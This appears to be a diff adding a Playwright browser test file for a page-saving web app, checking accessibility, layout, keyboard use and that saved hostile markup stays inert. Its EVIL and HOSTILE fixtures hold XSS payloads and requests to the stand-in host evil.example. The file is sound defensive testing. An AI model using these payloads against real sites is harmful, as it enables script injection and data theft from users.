@@ -1,0 +1,272 @@
+"""Real Chromium against the real server: looks, accessibility, keys, and markup that attacks."""
+
+from __future__ import annotations
+
+import asyncio
+import itertools
+from collections.abc import Iterator
+from contextlib import contextmanager
+from importlib.resources import files
+from typing import Any
+
+import pytest
+from tests.api.conftest import kettle
+from tests.services import chromium
+
+from pageloom.edges.store.prices import insert_price
+from pageloom.library import open_library
+from pageloom.model.library import StoredPrice
+
+playwright_api = pytest.importorskip("playwright.sync_api")
+
+AXE = (files("axe_playwright_python") / "axe.min.js").read_text(encoding="utf-8")
+WIDTHS = (360, 768, 1280, 1920)
+LOOKS = tuple(itertools.product(WIDTHS, ("light", "dark")))
+EVIL = "\"><img src=x onerror=alert(1)><script>alert(2)</script>{{7*7}}\u202e' onfocus=alert(3) x="
+HOSTILE = f"""<html lang="en"><head><title>{EVIL}</title>
+<meta name="author" content='&lt;script&gt;alert(4)&lt;/script&gt;'>
+<meta name="description" content="{{{{7*7}}}} &lt;img src=x onerror=alert(5)&gt;">
+<script>alert(6)</script></head><body><article id="main" class="top"><h1>Plain</h1>
+<p hx-get="https://evil.example/" hx-trigger="load" data-read-end="/logout" onclick="alert(7)"
+ style="position:fixed;inset:0;z-index:9">A paragraph that is long enough to be kept by any reader
+of pages, with a <a href="javascript:alert(8)">link</a>, and <a href="data:text/html,x">two</a>.</p>
+<form action="https://evil.example/"><input name="page" autofocus onfocus="alert(9)"></form>
+<p><img src="https://evil.example/pixel.png" alt="{{{{7*7}}}}" onerror="alert(10)"> More words of
+this story, so that there is something to read beside what attacks whoever reads it.</p>
+<svg onload="alert(11)"><a xlink:href="javascript:alert(12)"><text>x</text></a></svg>
+<math><mtext><script>alert(13)</script></mtext></math><iframe src="https://evil.example/"></iframe>
+<video src="https://evil.example/v.mp4" autoplay></video><link rel=stylesheet href="//evil.example">
+<details ontoggle="alert(14)" open><summary>Sum</summary>And what it hides, in some words.</details>
+<h2 id="find">{{{{ask}}}}</h2><p>The end of it, with some more words to keep this one as well.</p>
+</article></body></html>"""
+
+
+@pytest.fixture(scope="module")
+def library(database, server):
+    with open_library(database) as opened:
+        yield opened
+
+
+@pytest.fixture(scope="module")
+def pages(library) -> dict[str, str]:
+    """Every page of the app, by name, with something on it."""
+    library.save_sample()
+    url = "https://shop.example/kettle"
+    for price, words in (("39.90", "Old words of it. " * 9), ("29.90", "New words of it. " * 9)):
+        shop = library.save(url, content=kettle(price, words), tags=["Kitchen"]).saved.page_id
+    arabic = "<html lang=ar dir=rtl><title>الرجل</title><article><p>" + "في صباح كل يوم جمعة. " * 20
+    right = library.save("https://ar.example/", content=arabic).saved.page_id
+    prices = [
+        StoredPrice(
+            page_id=shop, at=f"2026-0{month}-10T08:00:00.000Z", amount=month, currency="EUR"
+        )
+        for month in (3, 4, 5)
+    ]
+    with library.context.store.write() as tx:
+        for price in prices:
+            insert_price(tx, price)
+    watch = library.watch(url, name="Kettle", every="6h")
+    library.pause(watch)
+    library.note(shop, "A note.")
+    library.make_token("Phone")
+    job = library.save_later(["http://10.0.0.1/"])
+    return {
+        "library": "/",
+        "search": "/?q=kettle",
+        "cards": "/?view=cards",
+        "trash": "/?deleted=only",
+        "save": "/save",
+        "reader": f"/p/{shop}",
+        "right to left": f"/p/{right}",
+        "old version": f"/p/{shop}/v/1",
+        "history": f"/p/{shop}/history",
+        "diff": f"/p/{shop}/diff?from=1&to=2",
+        "side by side": f"/p/{shop}/diff?from=1&to=2&view=side",
+        "patch": f"/p/{shop}/diff?from=1&to=2&view=patch",
+        "nothing to compare": f"/p/{right}/diff",
+        "prices": f"/p/{shop}/prices",
+        "why": f"/p/{shop}/why",
+        "changes": "/changes",
+        "watches": "/watches",
+        "jobs": "/jobs",
+        "job": f"/jobs/{job.id}",
+        "tags": "/tags",
+        "settings": "/settings",
+        "keys": "/keys",
+        "api": "/api",
+        "error": "/p/999999",
+    }
+
+
+@pytest.fixture(scope="module")
+def chrome() -> Iterator[Any]:
+    with playwright_api.sync_playwright() as started:
+        browser = started.chromium.launch(executable_path=chromium(), args=["--no-sandbox"])
+        yield browser
+        browser.close()
+    asyncio.set_event_loop(None)
+
+
+@contextmanager
+def tab(chrome, server, browser, **settings: Any) -> Iterator[Any]:
+    """A tab of somebody who is signed in; ``trouble`` of it is whatever must not happen."""
+    context = chrome.new_context(**settings)
+    name, _, value = browser.cookie.partition("=")
+    context.add_cookies([{"name": name, "value": value, "url": server.origin}])
+    page = context.new_page()
+    page.trouble = []
+    page.on("dialog", lambda dialog: (page.trouble.append(dialog.message), dialog.dismiss()))
+    page.on("pageerror", lambda error: page.trouble.append(str(error)))
+    page.on("console", lambda said: page.trouble.append(said.text) if is_bad(said) else None)
+    for event in ("requestfinished", "requestfailed"):
+        page.on(event, lambda asked: page.trouble.extend(sent_elsewhere(asked, server.origin)))
+    yield page
+    context.close()
+
+
+def sent_elsewhere(asked: Any, origin: str) -> list[str]:
+    """A request to another host, unless the page's own policy has stopped it."""
+    is_own = asked.url.startswith((origin, "data:", "blob:"))
+    return [] if is_own or asked.failure == "csp" else [f"request: {asked.url} {asked.failure}"]
+
+
+def is_bad(said: Any) -> bool:
+    return "Content Security Policy" in said.text or "Refused" in said.text
+
+
+def violations(page: Any) -> list[str]:
+    page.evaluate(AXE)
+    found = page.evaluate("axe.run(document, {resultTypes: ['violations']})")["violations"]
+    return [f"{one['id']}: {one['nodes'][0]['html'][:200]}" for one in found]
+
+
+def test_every_page_is_accessible_and_fits_at_every_width_light_and_dark(
+    chrome, server, browser, pages
+):
+    """Each page in two looks; all eight looks are met, and every page both light and dark."""
+    found: list[str] = []
+    for place, (width, scheme) in enumerate(LOOKS):
+        size = {"width": width, "height": 900}
+        settings = {"viewport": size, "color_scheme": scheme, "bypass_csp": True}
+        with tab(chrome, server, browser, **settings) as page:
+            for number, (name, path) in enumerate(pages.items()):
+                if (number - place // 2) % len(WIDTHS):
+                    continue
+                page.goto(server.origin + path)
+                where = f"{name} {width} {scheme}"
+                found += [f"{where}: {one}" for one in violations(page)]
+                root = "document.documentElement"
+                if page.evaluate(f"{root}.scrollWidth > {root}.clientWidth"):
+                    found.append(f"{where}: scrolls sideways")
+            found += page.trouble
+    assert found == []
+
+
+@pytest.mark.parametrize("theme", ["sepia", "black"])
+def test_the_other_colours_are_readable_too(chrome, server, browser, pages, theme):
+    browser.post("/settings", theme=theme)
+    try:
+        with tab(chrome, server, browser, bypass_csp=True) as page:
+            for name in ("library", "reader", "diff"):
+                page.goto(server.origin + pages[name])
+                assert violations(page) == [], name
+    finally:
+        browser.post("/settings", theme="system")
+
+
+def test_pages_are_whole_without_javascript(chrome, server, browser, pages):
+    with tab(chrome, server, browser, java_script_enabled=False) as page:
+        page.goto(server.origin)
+        page.get_by_label("Search the library").fill("kettle")
+        page.keyboard.press("Enter")
+        page.locator(f'a[data-open][href="{pages["reader"]}"]').click()
+        assert page.locator("h1").inner_text() == "Harbour kettle"
+        page.get_by_label("Add tags, separated by commas").fill("Tin")
+        page.keyboard.press("Enter")
+        page.locator("a.tag", has_text="Tin").wait_for()
+        page.get_by_role("link", name="What changed", exact=True).first.click()
+        assert "29.90" in page.locator("ins").first.inner_text()
+        assert page.trouble == []
+
+
+def test_lists_are_worked_through_by_keys_alone(chrome, server, browser, library, pages):
+    with tab(chrome, server, browser) as page:
+        page.goto(server.origin + "/?q=kettle")
+        page.keyboard.press("j")
+        page.keyboard.press("x")
+        assert page.locator("[data-chosen]").inner_text() == "1 selected"
+        page.keyboard.press("p")
+        page.wait_for_url("**done=*")
+        assert "1 page pinned." in page.get_by_role("status").inner_text()
+        page.keyboard.press("u")
+        page.wait_for_url(server.origin + "/?q=kettle")
+        page.keyboard.press("j")
+        page.keyboard.press("o")
+        page.wait_for_url("**/p/*")
+        page.keyboard.press("v")
+        page.wait_for_url("**/history")
+        page.keyboard.press("g")
+        page.keyboard.press("c")
+        page.wait_for_url("**/changes")
+        page.keyboard.press("/")
+        page.keyboard.type("jjj")
+        assert page.locator("#find").input_value() == "jjj"
+        assert page.trouble == []
+    assert not any(one.pinned for one in library.pages())
+
+
+def test_a_page_whose_end_was_seen_is_read(chrome, server, browser, library):
+    saved = library.save("https://short.example/", content=kettle("5.00", "Few words. " * 9))
+    with tab(chrome, server, browser) as page:
+        page.goto(f"{server.origin}/p/{saved.saved.page_id}")
+        with page.expect_response("**/read"):
+            page.locator("[data-read-end]").scroll_into_view_if_needed()
+    assert library.get(saved).read_at
+
+
+def test_a_job_is_followed_live(chrome, server, browser, site):
+    site.add_html("/live", kettle(words="Live words. " * 30))
+    with tab(chrome, server, browser) as page:
+        page.goto(server.origin + "/save")
+        page.get_by_label("URLs").fill(f"{site.url('/live')}\n{site.url('/live?2')}")
+        page.get_by_role("button", name="Save", exact=True).click()
+        page.get_by_text("2 of 2 done").wait_for()
+        page.get_by_role("link", name=site.url("/live"), exact=True).click()
+        assert page.locator("h1").inner_text() == "Harbour kettle"
+        assert page.trouble == []
+
+
+def test_markup_that_attacks_stays_text_on_every_page(chrome, server, browser, library, pages):
+    url = "https://evil-shop.example/?" + "%22%3E%3Cscript%3Ealert(15)%3C/script%3E"
+    for words in ("One", "Two"):
+        saved = library.save(url, content=HOSTILE.replace("Plain", words), tags=[EVIL])
+    number = saved.saved.page_id
+    library.note(saved, EVIL)
+    library.pause(library.watch("https://evil-shop.example/", name=EVIL))
+    library.make_token(EVIL)
+    library.open_session(EVIL)
+    job = library.save_later([f"http://10.0.0.1/{EVIL}"])
+    own = [
+        *(f"/p/{number}{part}" for part in ("", "/v/1", "/history", "/diff", "/diff?view=side")),
+        *(f"/p/{number}{part}" for part in ("/diff?view=patch", "/why", "/original", ".html")),
+        f"/jobs/{job.id}",
+        f"/?q={EVIL}",
+        f"/?tag={EVIL}&site={EVIL}",
+        f"/save?url={EVIL}",
+        f"/{EVIL}",
+    ]
+    with tab(chrome, server, browser) as page:
+        for path in (*pages.values(), *own):
+            page.goto(server.origin + path.replace("#", "%23"))
+            page.wait_for_load_state()
+            strange = page.evaluate(
+                '[...document.querySelectorAll(\'script:not([src^="/static/"]), iframe, object,'
+                " embed, video, [onclick], [onerror], [onfocus], [onload], [style],"
+                ' article [id]:not([id^="s-"]), article [hx-get], form[action^="http"]\')]'
+                ".map(one => one.outerHTML.slice(0, 200))"
+            )
+            inert = path.endswith(("/original", ".html"))  # as they came, where nothing runs
+            assert inert or strange == [], path
+            if inert:  # what the policy refuses there is how it is inert
+                page.trouble = [one for one in page.trouble if "Security Policy" not in one]
+            assert page.trouble == [], path
